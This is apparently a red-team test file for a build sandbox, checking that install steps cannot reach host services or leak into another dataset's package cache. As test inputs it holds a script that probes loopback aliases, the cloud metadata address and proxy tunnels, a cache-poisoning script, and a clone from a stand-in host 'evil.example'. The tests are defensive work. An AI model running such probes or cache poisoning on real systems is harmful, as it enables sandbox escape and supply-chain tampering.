"""Hostile install lines reach the package index and nothing else: no port of this host, no other host,
no cache of another dataset."""

import hashlib
import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from perdure.errors import ConfigurationError, InstanceError
from perdure.instances import base_trees
from perdure.instances.environment_builder import Environments
from perdure.sandboxes.base import SandboxProvider, SandboxSpec
from perdure.sandboxes.providers.local import LocalProvider
from perdure.settings.settings_tree import Settings
from perdure.storage.base import put_blob
from perdure.storage.local_store import LocalStore
from perdure.types import Environment, Instance, Source, SourceKind
from tests.redteam.test_network_escape import listening

REACH = """
python3 - $PORTS <<'END'
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
reached = []

def ask(request):
    with socket.create_connection((proxy.hostname, proxy.port), 5) as s:
        s.sendall(request.encode())
        return s.recv(100).split(b" ")[1:2] == [b"200"]

names = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "127.1",
         "169.254.169.254", os.environ["OWN"], os.environ["OWN_NAME"]]
for port in sys.argv[1:]:
    for name in names:
        try:
            socket.create_connection((name.strip("[]"), int(port)), 2).close()
            reached.append(f"direct {name}:{port}")
        except OSError:
            pass
        host = f"{name}:{port}"
        if ask(f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"):
            reached.append(f"tunnel {host}")
        if ask(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"):
            reached.append(f"plain {host}")
for path in open("/proc/net/tcp").read().splitlines()[1:]:
    if path.split()[3] == "0A" and not path.split()[1].endswith(f"{proxy.port:04X}"):
        reached.append(f"listener {path.split()[1]}")
open(os.environ["WORK"] + "/reached", "w").write("\\n".join(reached))
END
"""


class Index(BaseHTTPRequestHandler):
    """A package index with one package."""

    wheel = b""

    def do_GET(self) -> None:
        if self.path.endswith(".whl"):
            self._answer(self.wheel, "application/octet-stream")
        elif self.path.strip("/") == "simple/harmless":
            digest = hashlib.sha256(self.wheel).hexdigest()
            name = "harmless-1.0-py3-none-any.whl"
            self._answer(f'<a href="/{name}#sha256={digest}">{name}</a>'.encode(), "text/html")
        else:
            self.send_error(404)

    do_HEAD = do_GET

    def _answer(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    def log_message(self, *_: object) -> None: ...


def wheel(body: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("harmless.py", body)
        about = "harmless-1.0.dist-info"
        archive.writestr(
            f"{about}/METADATA", "Metadata-Version: 2.1\nName: harmless\nVersion: 1.0\n"
        )
        tag = "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        archive.writestr(f"{about}/WHEEL", tag)
        archive.writestr(f"{about}/RECORD", "")
    return packed.getvalue()


@pytest.fixture
def index(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """The port of an index on this host's loopback, which pip and uv are told to use."""
    Index.wheel = wheel("value = 'good'\n")
    server = ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/simple"
    for name in ("PIP_INDEX_URL", "UV_DEFAULT_INDEX"):
        monkeypatch.setenv(name, url)
    yield server.server_port
    server.shutdown()
    server.server_close()


class Builds:
    """The environments of a home, and instances whose install lines are the attack."""

    def __init__(self, home: Path, provider: SandboxProvider) -> None:
        self.store = LocalStore(home / "store")
        self.environments = Environments(home / "e", self.store, provider)

    async def instance(self, *install: str, dataset: str = "evil") -> Instance:
        tree = self.environments.root.parent / "tree"
        tree.mkdir(exist_ok=True)
        (tree / "thing.py").write_text("x = 1\n")
        key = await put_blob(self.store, base_trees.pack(tree))
        return Instance(
            instance_id="thing-1",
            dataset=dataset,
            problem_statement="-",
            source=Source(kind=SourceKind.BLOB, key=key),
            environment=Environment(install=install),
        )

    async def build(self, *install: str, dataset: str = "evil") -> Path:
        """Build, and return the host's folder of what is $WORK inside."""
        prepared = await self.environments.prepare(await self.instance(*install, dataset=dataset))
        assert prepared.tree is not None
        return prepared.tree.parent / "work"


@pytest.fixture
def builds(home: Path, provider: SandboxProvider) -> Builds:
    if not provider.sees_host:
        pytest.skip("builds run on this host")
    return Builds(home, provider)


def own_address() -> str:
    """An address of this host that is not its loopback, where it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("198.51.100.1", 9))  # sends nothing
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


async def test_no_port_of_this_host_answers_a_build(builds: Builds, index: int) -> None:
    """Temporal, gateway, web UI and metrics listen on this host; none is reached, by any name, directly
    or through the proxy. The index on the same host is."""
    names = ("temporal", "gateway", "ui", "metrics", "everywhere")
    with ExitStack() as stack:
        hosts = ["0.0.0.0" if name == "everywhere" else "127.0.0.1" for name in names]
        ports = [
            stack.enter_context(listening(socket.AF_INET, (host, 0))).getsockname()[1]
            for host in hosts
        ]
        told = f"export PORTS='{' '.join(map(str, ports))}' OWN={own_address()}"
        work = await builds.build(
            f"{told} OWN_NAME={socket.gethostname()}",
            REACH,
            'uv venv -q --clear "$VENV"',
            "uv pip install -q harmless",
        )

    assert (work / "reached").read_text() == ""


async def test_the_index_works_through_the_proxy(builds: Builds, index: int) -> None:
    """uv and pip install from the configured index, though the build has only its loopback."""
    work = await builds.build(
        'uv venv -q --clear "$VENV"',
        "uv pip install -q harmless",
        '"$VENV/bin/python" -c "import harmless; print(harmless.value)" >$WORK/said',
        "ls /sys/class/net >$WORK/devices 2>/dev/null || cat /proc/net/dev >$WORK/devices",
    )

    assert (work / "said").read_text() == "good\n"
    assert "eth" not in (work / "devices").read_text()


async def test_a_host_that_is_no_index_is_refused_with_the_setting(
    builds: Builds, index: int
) -> None:
    """A build that wants another host fails at once and names the host and the setting."""
    with pytest.raises(InstanceError, match=r"PERDURE_SANDBOX__BUILD_HOSTS=evil\.example"):
        await builds.build("git clone -q https://evil.example/x.git /tmp/x")


POISON = """
python3 - <<'END'
import os
for where, _, files in os.walk(os.environ["UV_CACHE_DIR"]):
    for name in files:
        path = os.path.join(where, name)
        if name == "harmless.py":
            open(path, "w").write("value = 'poisoned'\\n")
            open(os.environ["WORK"] + "/poisoned", "w").close()
END
"""
INSTALL = (
    'uv venv -q --clear "$VENV"',
    "uv pip install -q harmless",
    '"$VENV/bin/python" -c "import harmless; print(harmless.value)" >$WORK/said',
)


async def test_a_poisoned_cache_stays_in_its_dataset(builds: Builds, index: int) -> None:
    """What one dataset's build writes into the cache is read by no build of another dataset, also
    where both have the same tree and lines."""
    poisoned = await builds.build(*INSTALL, POISON)
    own = await builds.build(*INSTALL)
    other = await builds.build(*INSTALL, dataset="innocent")

    assert (poisoned / "poisoned").exists()
    assert (own / "said").read_text() == "poisoned\n"
    assert (other / "said").read_text() == "good\n"


async def test_local_needs_to_be_allowed(home: Path) -> None:
    """Without the setting, nobody makes a sandbox that runs as the worker's user."""
    with pytest.raises(ConfigurationError, match="PERDURE_SANDBOX__ALLOW_LOCAL"):
        await LocalProvider(Settings(home=home)).create(SandboxSpec(workdir="/w"), "redteam-local")

    assert not (home / "sandboxes" / "local" / "redteam-local").exists()
